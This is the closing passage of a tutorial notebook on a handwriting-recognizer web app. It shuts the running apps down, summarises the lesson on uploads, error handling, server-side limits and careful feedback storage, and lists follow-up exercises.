# [Notebook 07](07_public_url.ipynb) shows these ways, and who can read along on each.
#
# Whatever you choose: anyone who can reach the page can also reach the API, and try everything that
# you tried in section 3. Limits belong in the app, not in the page's JavaScript.
#
# Finally, close what you opened. This also happens by itself when the kernel stops.

# %%
for app in (tiny, frontend, careful):
    app.close(verbose=False)
try:
    ask(url + RUN, predict_body(photo))
except RecognizerError as error:
    print(error)

# %% [markdown]
# ## Summary
#
# - A web app is a function with a form in front; its errors are shown only if they are meant for
#   users.
# - Pictures travel as uploaded files or as base64 in JSON, which is a third larger.
# - A client looks at the status, the error's sentence and the answer's form, and has a time limit.
# - One step is one request; two steps bring events, which end with `complete` or `error`.
# - A limit must apply to every way in. A full app says so at once, with 503.
# - A predictor is any object with two methods, so you can put a check in front of the model, or
#   move the model out.
# - Feedback needs care: images in files, no formulas, and no handwriting kept without a purpose.

# %% [markdown]
# ## What to try next
#
# - Open the app on your phone: which address must `lab app` listen on, what does 127.0.0.1 mean on
#   the phone, and who else is on your network?
# - Write a predictor that remembers the text of pages it has seen (by their SHA-256), and put it
#   behind the app. How large may it grow? What does section 7 say about it?
# - Send the canvas's picture of your own handwriting as feedback, and find it below
#   `.lab/notebooks/05/feedback`.
# - Try exercise 6 on `data/pages`: at which contrast (see `draw.photos`) is a page called blank,
#   and at which does the recognizer fail? Which of the two should come first?
# - **Next:** [A model service: serverless and batched](06_model_service.ipynb), in which the model
#   moves out of the app.
